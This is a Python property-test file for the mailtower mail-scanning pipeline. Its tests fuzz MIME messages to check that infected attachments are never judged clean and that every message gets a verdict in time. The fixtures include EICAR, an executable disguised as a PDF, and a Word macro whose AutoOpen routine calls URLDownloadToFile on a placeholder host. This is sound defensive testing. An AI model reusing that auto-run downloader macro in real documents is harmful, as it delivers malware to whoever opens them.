"""Property tests of the whole in-process pipeline (YARA, reputation, Skeptic, policy; no
clamd): mutated MIME never crashes it, never turns an infected message clean, and every
message gets a verdict within the deadline."""

from __future__ import annotations

import time
from dataclasses import dataclass

import pytest
from archive_builders import zip_of
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from mime_builders import attachment_message
from mime_mutations import Base, mutated
from office_builders import OLE_MAGIC, docm, word_modules
from pipeline_fixtures import ORDINARY, pe

from mailtower.scanning.pipeline import Pipeline, in_process
from mailtower.scanning.scan import Kind, Verdict
from mailtower.scanning.skeptic import INTERNAL_ERROR
from mailtower.scanning.testdata import eicar

DEADLINE_S = 10.0
# The deadline is checked between steps: allow one step's overrun on a busy machine.
SLACK_S = 5.0
PROPERTY_SETTINGS = settings(
    max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow]
)

EICAR = eicar()
INFECTED_ZIP = zip_of({"docs/readme.txt": b"read me first\n", "docs/tools/eicar.txt": EICAR})
PROGRAM = pe()
DROPPER_DOCM = docm(
    word_modules(
        'Sub AutoOpen()\n    URLDownloadToFile 0, "http://example.invalid/a", "a", 0, 0\nEnd Sub'
    )
)


@dataclass(frozen=True)
class Infected:
    """A message carrying ``payload`` as its base64 attachment, and the verdict it must get."""

    payload: bytes
    filename: str
    verdict: Kind
    # Whether a prefix to the payload breaks it (see mime_mutations.mutated's seal_body).
    sealed: bool = False

    @property
    def base(self) -> Base:
        return Base(attachment_message(self.payload, name=self.filename), self.payload)


INFECTED = {
    "eicar": Infected(EICAR, "eicar.com", Kind.VIRUS),
    "eicar-in-zip": Infected(INFECTED_ZIP, "documents.zip", Kind.VIRUS),
    # A Windows program dressed as a PDF: banned by content, whatever its name becomes.
    "disguised-exe": Infected(PROGRAM, "invoice.pdf", Kind.BANNED, sealed=True),
    # A real Word document whose VBA runs on open and downloads (office_builders).
    "macro-dropper": Infected(DROPPER_DOCM, "minutes.docm", Kind.SUSPICIOUS),
}
RANK = {Kind.CLEAN: 0, Kind.TEMPFAIL: 1, Kind.SUSPICIOUS: 2, Kind.BANNED: 3, Kind.VIRUS: 4}
CLEAN_BASES = [Base(build()) for build in ORDINARY.values()]


@pytest.fixture(scope="module")
def pipeline() -> Pipeline:
    return in_process(deadline_s=DEADLINE_S)


def scan(pipeline: Pipeline, raw: bytes) -> Verdict:
    """The verdict, checked for what a working pipeline never produces on any input."""
    started = time.monotonic()
    verdict = pipeline.scan(raw)
    assert time.monotonic() - started < DEADLINE_S + SLACK_S
    assert isinstance(verdict, Verdict)
    # Every engine here is in-process: an error or tempfail means an engine crashed on the
    # message (the pipeline turns crashes into tempfail, Skeptic's into internal-error).
    assert verdict.kind is not Kind.TEMPFAIL, verdict.reason
    assert all(run.error is None for run in verdict.runs), verdict.runs
    assert INTERNAL_ERROR not in {f.name for f in verdict.findings}, verdict.reason
    return verdict


@pytest.mark.parametrize("name", INFECTED)
def test_intact_infected_messages_are_caught(pipeline: Pipeline, name: str) -> None:
    # The properties below start from these verdicts: make sure they hold unmutated.
    case = INFECTED[name]
    assert scan(pipeline, case.base.raw).kind is case.verdict


@pytest.mark.parametrize("name", INFECTED)
@PROPERTY_SETTINGS
@given(data=st.data())
def test_mutated_mime_around_an_infected_body_is_never_clean(
    pipeline: Pipeline, name: str, data: st.DataObject
) -> None:
    case = INFECTED[name]
    strategy = mutated(case.base, protect_body=True, seal_body=case.sealed)
    raw, _log = data.draw(strategy, label="message")
    verdict = scan(pipeline, raw)
    # The payload's base64 is intact, so the MIME layer decodes it (test_mime_properties) and
    # it must be judged at least as it is unmutated (verdicts rank virus, banned, suspicious).
    assert RANK[verdict.kind] >= RANK[case.verdict], (verdict.kind, verdict.reason)


@PROPERTY_SETTINGS
@given(
    st.sampled_from([case.base for case in INFECTED.values()] + CLEAN_BASES).flatmap(
        lambda base: mutated(base, protect_body=False)
    )
)
def test_any_mutation_of_any_message_gets_a_verdict(pipeline: Pipeline, case) -> None:
    raw, _log = case
    scan(pipeline, raw)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.one_of(
        st.binary(max_size=4000),
        st.binary(max_size=4000).map(
            lambda data: b"Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n" + data
        ),
        # Attachments of random bytes behind a format's magic: containers and Skeptic's
        # Office and RTF readers get garbage too.
        st.tuples(
            st.sampled_from([b"", b"PK\x03\x04", OLE_MAGIC, b"{\\rtf1", b"ActiveMime"]),
            st.binary(max_size=3000),
            st.sampled_from(["a.zip", "a.doc", "a.rtf", "a.bin"]),
        ).map(lambda item: attachment_message(item[0] + item[1], name=item[2])),
    )
)
def test_garbage_gets_a_verdict(pipeline: Pipeline, raw: bytes) -> None:
    scan(pipeline, raw)
